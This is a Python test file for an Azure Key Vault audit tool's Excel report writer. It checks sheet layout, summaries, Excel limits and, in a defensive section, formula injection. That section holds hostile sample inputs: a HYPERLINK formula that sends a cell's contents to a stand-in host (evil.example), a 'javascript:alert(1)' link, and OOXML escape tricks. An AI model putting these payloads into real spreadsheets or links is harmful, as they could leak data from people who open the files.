"""The spreadsheet report, read back with openpyxl and pandas."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import pandas as pd
import pytest

import reports.xlsx_fastrows as fastrows
from audit_function.vocabulary import AuditResult
from reports.xlsx_report import XlsxWriter
from reports.xlsx_summary import GAPS_SHEET
from reports.xlsx_text import TRUNCATION_MARKER, utf16_len
from tests.reports import factory_xlsx as make

TRIGGERS = tuple("=+-@\t\r\n")
FINDING_HEADERS = [
    "Severity", "Rule", "Title", "Vault", "Subject", "Vaults affected", "Owner", "Principal name",
    "Subscription", "Resource group", "Principal", "Principal type", "Role", "Scope", "Message", "Remediation", "Fingerprint", "Assignment ID",
    "Vault ID", "Evidence",
]
STATUS_HEADERS = ["Status", "First seen", "Suppressed", "Suppression"]


def render(result: AuditResult, **limits) -> bytes:
    return XlsxWriter(**limits).render(result)


def load(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def header(ws) -> list:
    return [cell.value for cell in ws[1]]


def column(ws, name: str) -> list:
    index = header(ws).index(name)
    return [row[index] for row in ws.iter_rows(min_row=2, values_only=True)]


def summary_rows(wb) -> list[list]:
    return [[v for v in row if v is not None] for row in wb["Summary"].iter_rows(values_only=True)]


def summary_block(wb, title: str) -> list[list]:
    """The rows of a titled Summary table, header excluded."""
    rows = summary_rows(wb)
    start = rows.index([title]) + 2
    end = next((i for i in range(start, len(rows)) if not rows[i]), len(rows))
    return rows[start:end]


@pytest.fixture(scope="module")
def small():
    result = make.small_estate()
    return result, render(result)


# ---- interface and structure ----

def test_writer_interface(small):
    _, data = small
    assert XlsxWriter.name == "xlsx"
    assert XlsxWriter.filename == "kv-audit-report.xlsx"
    assert isinstance(data, bytes) and data[:2] == b"PK"


def test_sheets_in_order_summary_first_and_active(small):
    wb = load(small[1])
    assert wb.sheetnames == ["Summary", "Findings", "Vaults", "Access", "Migration", GAPS_SHEET]
    assert wb.active.title == "Summary"


def test_headers(small):
    wb = load(small[1])
    assert header(wb["Findings"]) == FINDING_HEADERS
    assert header(wb["Vaults"])[:4] == ["Vault", "Subscription", "Subscription ID", "Resource group"]
    assert {"Permission model", "Network exposure", "Approved private endpoints", "Soft delete",
            "Purge protection", "Access policies", "RBAC data principals", "Findings", "High",
            "Medium", "Low", "Tags", "Vault ID"} <= set(header(wb["Vaults"]))
    assert header(wb["Access"])[:7] == ["Vault", "Subscription", "Resource group", "Model in force",
                                         "Principal", "Principal type", "Source"]
    assert {"Effective", "Permissions", "Scope", "Scope level", "Data actions"} <= set(header(wb["Access"]))
    assert header(wb["Migration"]) == ["Vault", "Readiness", "Reasons", "Principal", "Principal type",
                                        "Proposed roles", "Excess", "Commands", "Vault ID"]
    assert header(wb[GAPS_SHEET]) == ["Kind", "Scope", "Table", "Rule", "Vault", "Reason", "Details", "Vault ID"]


def test_status_columns_only_when_findings_carry_them(small):
    result, _ = small
    assert not set(STATUS_HEADERS) & set(header(load(small[1])["Findings"]))
    doc = dict(result.report)
    doc["findings"] = [dict(f, status="new", firstSeen="2026-11-01", suppressed=i == 0,
                            suppression={"reason": "accepted risk"} if i == 0 else None)
                       for i, f in enumerate(doc["findings"])]
    ws = load(render(AuditResult(doc, result.access)))["Findings"]
    assert header(ws) == FINDING_HEADERS[:16] + STATUS_HEADERS + FINDING_HEADERS[16:]
    assert column(ws, "Status") == ["new"] * len(doc["findings"])
    assert column(ws, "Suppressed")[:2] == ["yes", "no"]
    assert column(ws, "Suppression")[0] == "reason: accepted risk"


def test_row_counts_equal_the_json(small):
    result, data = small
    frames = pd.read_excel(io.BytesIO(data), sheet_name=None)
    doc = result.report
    assert len(frames["Findings"]) == len(doc["findings"])
    assert len(frames["Vaults"]) == len(doc["vaults"])
    assert len(frames["Access"]) == len(result.access)
    # one row per plan entry; a vault without entries still gets its readiness row
    assert len(frames["Migration"]) == 2 + 1
    assert len(frames[GAPS_SHEET]) == len(doc["run"]["gaps"]) + len(doc["run"]["notEvaluated"])


def test_findings_rows_in_json_order_with_fields(small):
    result, data = small
    frame = pd.read_excel(io.BytesIO(data), sheet_name="Findings")
    findings = result.report["findings"]
    assert list(frame["Fingerprint"]) == [f["fingerprint"] for f in findings]
    assert list(frame["Severity"]) == [f["severity"] for f in findings]
    assert list(frame["Rule"]) == [f["ruleId"] for f in findings]
    assert list(frame["Vault"]) == [f["vaultName"] for f in findings]
    assert list(frame["Subscription"]) == ["sub-1", "sub-1", "sub-2", "sub-1", "sub-1", "sub-2"]
    assert list(frame["Remediation"]) == [f["remediation"] for f in findings]
    assert frame["Principal"][1] == findings[1]["principalId"]
    assert frame["Evidence"][0] == '{"rule": "public-network-open", "vault": "kv-pay"}'


def test_findings_table_filter_freeze_widths_and_severity_colours(small):
    ws = load(small[1])["Findings"]
    table = ws.tables["FindingsTable"]
    assert table.ref == "A1:T7"
    assert table.autoFilter.ref == "A1:T7"
    assert table.tableStyleInfo.name.startswith("TableStyle")
    assert [c.name for c in table.tableColumns] == FINDING_HEADERS
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["O"].width >= 60  # message
    rules = {rule.formula[0]: rule for rng in ws.conditional_formatting for rule in rng.rules}
    assert {'"high"', '"medium"', '"low"'} <= set(rules)
    assert rules['"high"'].dxf.fill.fgColor.rgb.endswith("C00000")
    ranges = {str(rng.sqref) for rng in ws.conditional_formatting}
    assert "A2:A7" in ranges


def test_vault_cells_link_to_the_portal(small):
    result, data = small
    wb = load(data)
    v1 = result.report["vaults"][0]
    expected = f"https://portal.azure.com/#@{make.TENANT}/resource{v1['id']}"
    assert wb["Findings"]["D2"].hyperlink.target == expected
    assert wb["Findings"]["D2"].font.underline == "single"
    assert wb["Vaults"]["A2"].hyperlink.target == expected
    assert wb["Access"]["A2"].hyperlink.target == expected


def test_vaults_sheet_inventory(small):
    frame = pd.read_excel(io.BytesIO(small[1]), sheet_name="Vaults")
    assert list(frame["Vault"]) == ["kv-pay", "kv-legacy", "kv-private"]
    assert list(frame["Network exposure"]) == ["public", "firewalled", "private"]
    assert list(frame["Permission model"]) == ["rbac", "accessPolicy", "rbac"]
    assert list(frame["Purge protection"]) == ["no", "no", "yes"]
    assert list(frame["Soft delete"]) == ["yes", "not set", "yes"]
    assert list(frame["Approved private endpoints"]) == [0, 0, 1]
    assert list(frame["High"]) == [1, 0, 0]
    assert frame["Tags"][0] == "env=prod"


def test_access_sheet_source_effective_and_permissions(small):
    frame = pd.read_excel(io.BytesIO(small[1]), sheet_name="Access")
    assert list(frame["Source"]) == ["role assignment", "access policy", "role assignment"]
    assert list(frame["Effective"]) == ["yes", "yes", "no"]
    assert list(frame["Permissions"]) == ["secrets: get, list"] * 3
    assert frame["Scope level"][0] == "vault" and pd.isna(frame["Scope level"][1])
    assert frame["Data actions"][0].startswith("Microsoft.KeyVault/vaults/secrets/getSecret/action, ")


def test_migration_rows_tolerate_missing_keys(small):
    result, data = small
    frame = pd.read_excel(io.BytesIO(data), sheet_name="Migration")
    assert list(frame["Readiness"]) == ["needs-assignments", "needs-assignments", "blocked"]
    assert list(frame["Proposed roles"][:2]) == ["Key Vault Secrets User", "Key Vault Secrets Officer"]
    assert frame["Excess"][1] == "secrets: set"
    assert frame["Commands"][0].count("\n") == 1
    gone = result.report["migration"][1]
    assert pd.isna(frame["Vault"][2]) and frame["Vault ID"][2] == gone["vaultId"]
    assert pd.isna(frame["Principal"][2])


def test_no_migration_sheet_without_a_plan(small):
    result, _ = small
    for plan in (None, []):
        doc = dict(result.report)
        doc.pop("migration")
        if plan is not None:
            doc["migration"] = plan
        assert "Migration" not in load(render(AuditResult(doc, result.access))).sheetnames


def test_gaps_sheet_lists_gaps_and_not_evaluated(small):
    result, data = small
    frame = pd.read_excel(io.BytesIO(data), sheet_name=GAPS_SHEET)
    assert list(frame["Kind"]) == ["gap", "not evaluated"]
    assert frame["Reason"][0] == "403 Forbidden" and frame["Table"][0] == "vaults"
    assert frame["Rule"][1] == "vault-tenant-mismatch" and frame["Vault"][1] == "kv-legacy"


# ---- Summary ----

def test_summary_run_metadata_and_counts(small):
    wb = load(small[1])
    rows = summary_rows(wb)
    facts = {row[0]: row[1] for row in rows if len(row) == 2 and isinstance(row[0], str)}
    assert facts["Run ID"] == "run-0001"
    assert facts["Started"] == "2026-11-24T10:00:00Z" and facts["Finished"] == "2026-11-24T10:05:00Z"
    assert facts["Source"] == "snapshot"
    assert facts["Scope"] == "managementGroups: mg-root"
    assert facts["Tool version"].startswith("kv-audit ")
    assert summary_block(wb, "Findings by severity") == [["high", 2, 0], ["medium", 2, 0], ["low", 2, 0]]
    by_rule = {r[0]: r[1:] for r in summary_block(wb, "Findings by rule")}
    assert sorted(by_rule) == sorted(make.ALL_RULES)  # every rule, zeros included
    # findings, high, medium, low, suppressed
    assert by_rule["dead-access-policy"] == [0, 0, 0, 0, 0] and by_rule["no-private-endpoint"][0] == 2
    assert summary_block(wb, "Vaults by permission model") == [["accessPolicy", 1], ["rbac", 2]]
    assert summary_block(wb, "Vaults by network exposure") == [["public", 1], ["firewalled", 1], ["private", 1]]
    subs = summary_block(wb, "Findings by subscription")
    assert subs[0] == ["sub-1", make.subscription_id(1), 2, 4, 2, 1, 1, 0]
    assert subs[1] == ["sub-2", make.subscription_id(2), 1, 2, 0, 1, 1, 0]


def test_summary_has_three_charts(small):
    with zipfile.ZipFile(io.BytesIO(small[1])) as archive:
        charts = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) == 3
    text = " ".join(charts)
    for title in ("Findings by severity", "Vaults by permission model", "Vaults by network exposure"):
        assert title in text
    assert "C00000" in text  # the high bar keeps its severity colour


def test_incomplete_banner_lists_the_gaps(small):
    wb = load(small[1])
    banner = wb["Summary"]["A2"]
    assert banner.value.startswith("INCOMPLETE RUN: 1 gap(s), 1 rule evaluation(s) not done")
    assert "not a pass" in banner.value
    assert banner.fill.fgColor.rgb.endswith("C00000") and banner.font.bold
    assert "A2:H2" in {str(r) for r in wb["Summary"].merged_cells.ranges}
    assert "403 Forbidden" in wb["Summary"]["A3"].value
    assert wb["Summary"].sheet_properties.tabColor.rgb.endswith("C00000")
    facts = {row[0]: row[1] for row in summary_rows(wb) if len(row) == 2}
    assert facts["Complete"] == "NO"


def test_complete_run_has_no_banner(small):
    result, _ = small
    doc = make.report(result.report["vaults"], result.report["findings"])
    wb = load(render(AuditResult(doc, ())))
    assert wb["Summary"]["A2"].value.startswith("Complete run")
    assert not any("INCOMPLETE" in str(v) for row in summary_rows(wb) for v in row)


@pytest.mark.parametrize("run_patch", [{"complete": None}, {"complete": True, "gaps": [{"reason": "x"}]}])
def test_anything_but_a_clean_complete_run_gets_the_banner(small, run_patch):
    result, _ = small
    doc = make.report(result.report["vaults"], result.report["findings"])
    doc["run"].update(run_patch)
    assert load(render(AuditResult(doc, ())))["Summary"]["A2"].value.startswith("INCOMPLETE RUN")


def test_gap_list_in_banner_is_capped(small):
    gaps = [{"scope": f"/subscriptions/{i}", "table": "vaults", "reason": "timeout"} for i in range(25)]
    doc = make.report([], [], gaps=gaps)
    rows = summary_rows(load(render(AuditResult(doc, ()))))
    assert sum(1 for r in rows if r and str(r[0]).startswith("gap: ")) == 10
    assert any(r and str(r[0]).startswith("… and 15 more gap(s)") for r in rows)


# ---- formula injection ----

@pytest.fixture(scope="module")
def hostile():
    return load(render(make.hostile_estate()))


def all_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def test_no_cell_is_a_formula_and_no_text_starts_with_a_trigger(hostile):
    strings = 0
    for title, cell in all_cells(hostile):
        assert cell.data_type != "f", (title, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            strings += 1
            assert not cell.value.startswith(TRIGGERS), (title, cell.coordinate, cell.value)
    assert strings > 200


def test_no_formula_element_in_the_file():
    data = render(make.hostile_estate())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(rb"<f[ >]", archive.read(name)), name


def test_payloads_are_kept_but_neutralized_on_every_sheet(hostile):
    found = {(title, cell.value) for title, cell in all_cells(hostile)}
    for payload in make.PAYLOADS:
        expected = make.as_read_back(payload)
        for sheet in ("Findings", "Access", "Migration", GAPS_SHEET):
            assert (sheet, expected) in found, (sheet, payload)
    # Summary: run id, scope, subscription names, owners (by-owner table) and trend run dates
    for payload in make.PAYLOADS:
        assert ("Summary", make.as_read_back(payload)) in found, payload
    vaults = hostile["Vaults"]
    assert vaults["A2"].value == make.as_read_back(make.PAYLOADS[0])   # vault name
    assert vaults["D2"].value == make.as_read_back(make.PAYLOADS[1])   # resource group
    assert vaults["B2"].value == make.as_read_back(make.PAYLOADS[4])   # subscription name (tab)
    assert vaults["E2"].value == make.as_read_back(make.PAYLOADS[3])   # owner
    assert vaults["F2"].value == make.as_read_back(make.PAYLOADS[5])   # location (CR)
    tags = column(vaults, "Tags")[0]
    assert tags.startswith("'-2+3") and "@SUM" in tags


def test_hostile_vault_name_cell_is_text_and_its_link_stays_inside_the_portal(hostile):
    cell = hostile["Findings"]["D2"]
    assert cell.data_type == "s"
    assert cell.value == make.as_read_back(make.PAYLOADS[0])
    # that name contains "/", so its id is not a vault id: no link rather than a wrong one
    assert cell.hyperlink is None
    name = '=HYPERLINK("evil.example?x="&A1,"open")'
    v = make.vault(name, rg="rg <a> & 'b'")
    ws = load(render(AuditResult(make.report([v], [make.finding("no-private-endpoint", v)]), ())))["Findings"]
    assert ws["D2"].value == "'" + name and ws["D2"].data_type == "s"
    url = ws["D2"].hyperlink.target
    assert url.startswith(f"https://portal.azure.com/#@{make.TENANT}/resource/subscriptions/")
    assert re.fullmatch(r"[A-Za-z0-9:/#@._~%-]+", url), url  # everything else percent-encoded
    assert url.endswith("/vaults/%3DHYPERLINK%28%22evil.example%3Fx%3D%22%26A1%2C%22open%22%29")
    assert "/resourceGroups/rg%20%3Ca%3E%20%26%20%27b%27/" in url


def test_pandas_sees_text_not_formulas(hostile):
    frames = pd.read_excel(io.BytesIO(render(make.hostile_estate())), sheet_name=None)
    for title, frame in frames.items():
        for value in frame.to_numpy().ravel():
            if isinstance(value, str):
                assert not value.startswith(TRIGGERS), (title, value)
    assert set(frames["Findings"]["Message"]) == {make.as_read_back(p) for p in make.PAYLOADS}


def test_illegal_xml_characters_and_ooxml_escapes_never_crash_or_mislead():
    v = make.vault("kv-\x00bad\x07name\ud800", tags={"_x003D_cmd": "1"})
    doc = make.report([v], [make.finding("no-private-endpoint", v, message="_x003D_HYPERLINK(1)")])
    data = render(AuditResult(doc, ()))
    wb = load(data)
    assert wb["Vaults"]["A2"].value == "kv-\ufffdbad\ufffdname\ufffd"
    # Excel decodes _xHHHH_ in cell text: the literal sequence is written escaped, so Excel
    # shows "_x003D_HYPERLINK(1)" and never "=HYPERLINK(1)".
    assert column(wb["Findings"], "Message") == ["_x005F_x003D_HYPERLINK(1)"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"_x005F_x003D_cmd=1" in archive.read("xl/worksheets/sheet3.xml")


@pytest.mark.parametrize("vault_id, tenant, expected", [
    ("javascript:alert(1)", make.TENANT, None),
    ("/subscriptions/s/resourceGroups/r/providers/Microsoft.KeyVault/vaults/v/secrets/x", make.TENANT, None),
    ("/subscriptions/s/resourceGroups/r g#\"<>/providers/Microsoft.KeyVault/vaults/v", make.TENANT,
     f"https://portal.azure.com/#@{make.TENANT}/resource/subscriptions/s/resourceGroups/r%20g%23%22%3C%3E/providers/Microsoft.KeyVault/vaults/v"),
    ("/subscriptions/s/resourceGroups/r/providers/Microsoft.KeyVault/vaults/v", "evil.example/x?",
     "https://portal.azure.com/#resource/subscriptions/s/resourceGroups/r/providers/Microsoft.KeyVault/vaults/v"),
])
def test_portal_links_are_built_safely(vault_id, tenant, expected):
    v = make.vault("kv-a", id=vault_id, tenantId=tenant)
    ws = load(render(AuditResult(make.report([v], [make.finding("no-private-endpoint", v)]), ())))["Findings"]
    link = ws["D2"].hyperlink
    assert (link.target if link else None) == expected


# ---- Excel's limits ----

def test_rows_continue_on_numbered_sheets(small):
    result, _ = small
    v = result.report["vaults"][0]
    findings = [make.finding("no-private-endpoint", v, n) for n in range(7)]
    access = tuple(make.access_row(v, f"p-{n}") for n in range(4))
    data = render(AuditResult(make.report([v], findings), access), max_rows=4)
    wb = load(data)
    assert wb.sheetnames[:6] == ["Summary", "Findings", "Findings (2)", "Findings (3)", "Vaults", "Access"]
    assert wb.sheetnames[6] == "Access (2)"
    pages = [wb[name] for name in ("Findings", "Findings (2)", "Findings (3)")]
    assert [ws.max_row - 1 for ws in pages] == [3, 3, 1]
    assert all(header(ws) == FINDING_HEADERS for ws in pages)
    assert [list(ws.tables) for ws in pages] == [["FindingsTable"], ["FindingsTable_2"], ["FindingsTable_3"]]
    assert [fp for ws in pages for fp in column(ws, "Fingerprint")] == [f["fingerprint"] for f in findings]
    frames = pd.read_excel(io.BytesIO(data), sheet_name=None)
    assert sum(len(frames[n]) for n in ("Findings", "Findings (2)", "Findings (3)")) == len(findings)
    assert len(frames["Access"]) + len(frames["Access (2)"]) == len(access)
    sheets = {row[0]: row[1:] for row in summary_block(wb, "Sheets")}
    assert sheets["Findings"] == [3, "continued on 'Findings (2)' (Excel's row limit)"]
    assert sheets["Findings (3)"] == [1]


def test_exact_fit_needs_no_continuation(small):
    v = small[0].report["vaults"][0]
    findings = [make.finding("no-private-endpoint", v, n) for n in range(3)]
    wb = load(render(AuditResult(make.report([v], findings), ()), max_rows=4))
    assert "Findings (2)" not in wb.sheetnames and wb["Findings"].max_row == 4


def test_default_limits_are_excels():
    writer = XlsxWriter()
    assert (writer.max_rows, writer.max_cell_chars, writer.max_links) == (1_048_576, 32_767, 65_530)


def test_over_long_cells_are_truncated_visibly(small):
    v = small[0].report["vaults"][0]
    long_message = "=" + "x" * 999
    doc = make.report([v], [make.finding("no-private-endpoint", v, message=long_message)])
    wb = load(render(AuditResult(doc, ()), max_cell_chars=200))
    value = column(wb["Findings"], "Message")[0]
    marker = TRUNCATION_MARKER.format(total=1001)
    assert len(value) == 200 and value.endswith(marker) and "1,001 characters" in marker
    assert value.startswith("'=xxx")  # neutralized first, then cut
    facts = {row[0]: row[1] for row in summary_rows(wb) if len(row) == 2}
    assert facts["Cells truncated at Excel's cell size limit"] == 1


def test_excel_cell_limit_counts_utf16_units(small):
    v = small[0].report["vaults"][0]
    message = "\U0001F510" * 20_000  # 40,000+ UTF-16 units, 20,000+ code points
    doc = make.report([v], [make.finding("no-private-endpoint", v, message=message)])
    value = column(load(render(AuditResult(doc, ())))["Findings"], "Message")[0]
    assert utf16_len(value) <= 32_767 < utf16_len(message)
    assert value.endswith("see the JSON report]") and "\ufffd" not in value


def test_hyperlinks_stop_at_the_per_sheet_limit(small):
    v = small[0].report["vaults"][0]
    findings = [make.finding("no-private-endpoint", v, n) for n in range(5)]
    wb = load(render(AuditResult(make.report([v], findings), ()), max_links=2))
    links = [cell.hyperlink is not None for cell in wb["Findings"]["D"][1:]]
    assert links == [True, True, False, False, False]
    assert column(wb["Findings"], "Vault") == ["kv-pay"] * 5  # the text stays
    sheets = {row[0]: row[1:] for row in summary_block(wb, "Sheets")}
    assert "3 rows past Excel's hyperlink limit" in sheets["Findings"][1]


# ---- robustness ----

def test_empty_estate_renders_headers_only():
    wb = load(render(AuditResult(make.report([], []), ())))
    assert wb["Findings"].max_row == 1 and not wb["Findings"].tables
    assert wb["Findings"].auto_filter.ref == "A1:T1"
    assert summary_block(wb, "Findings by severity") == [["high", 0], ["medium", 0], ["low", 0]]  # suppressed: unknown


def test_minimal_report_with_missing_optional_keys():
    doc = {
        "schemaVersion": "2.0",
        "run": {"id": "r", "complete": True},
        "summary": {},
        "vaults": [{"id": "/subscriptions/s/resourceGroups/r/providers/Microsoft.KeyVault/vaults/v"}],
        "findings": [{"ruleId": "latent-grant", "severity": "critical", "vaultId": None, "evidence": None}],
        "migration": [{"vaultId": "x", "readiness": "ready", "entries": [{"principalId": "p"}]}],
    }
    wb = load(render(AuditResult(doc, ({"vaultId": "x", "effective": False},))))
    assert column(wb["Findings"], "Severity") == ["critical"]
    assert "Critical" in header(wb["Vaults"])
    assert summary_block(wb, "Findings by severity")[0] == ["critical", 1, 0]
    assert column(wb["Migration"], "Readiness") == ["ready"]


@pytest.mark.skipif(openpyxl.LXML, reason="with lxml, openpyxl serializes rows itself")
def test_fast_rows_are_used_without_lxml(monkeypatch):
    calls = []
    original = fastrows.FastSheet._write_values
    monkeypatch.setattr(fastrows.FastSheet, "_write_values",
                        lambda self, *args: calls.append(args[1]) or original(self, *args))
    render(make.small_estate())
    assert len(calls) >= 6 + 3 + 3  # findings, vaults, access rows


def test_fast_rows_write_exactly_what_openpyxl_writes(monkeypatch):
    """The direct cell serializer must produce byte-identical worksheets."""
    for result in (make.small_estate(), make.hostile_estate()):
        fast = render(result, max_rows=5, max_links=3)
        monkeypatch.setattr(fastrows, "FAST_ROWS", False)
        slow = render(result, max_rows=5, max_links=3)
        monkeypatch.setattr(fastrows, "FAST_ROWS", True)
        with zipfile.ZipFile(io.BytesIO(fast)) as a, zipfile.ZipFile(io.BytesIO(slow)) as b:
            assert sorted(a.namelist()) == sorted(b.namelist())  # the fast rels part is written earlier
            for name in a.namelist():
                if name != "docProps/core.xml":  # carries the save time
                    assert a.read(name) == b.read(name), name


def test_demo_audit_workbook_matches_its_report():
    """End to end: the pipeline's real report shape, rendered through the registered writer."""
    from audit_function.pipeline.run import AuditOptions, run_audit

    outcome = run_audit(AuditOptions(source="demo", formats=("json", "xlsx")))
    report, access = outcome.result.report, outcome.result.access
    frames = pd.read_excel(io.BytesIO(outcome.files[XlsxWriter.filename]), sheet_name=None)
    assert len(frames["Findings"]) == len(report["findings"]) > 0
    assert list(frames["Findings"]["Fingerprint"]) == [f["fingerprint"] for f in report["findings"]]
    assert len(frames["Vaults"]) == len(report["vaults"]) > 0
    assert len(frames["Access"]) == len(access) > 0
    assert list(frames["Vaults"]["Network exposure"]) == [v["networkExposure"] for v in report["vaults"]]
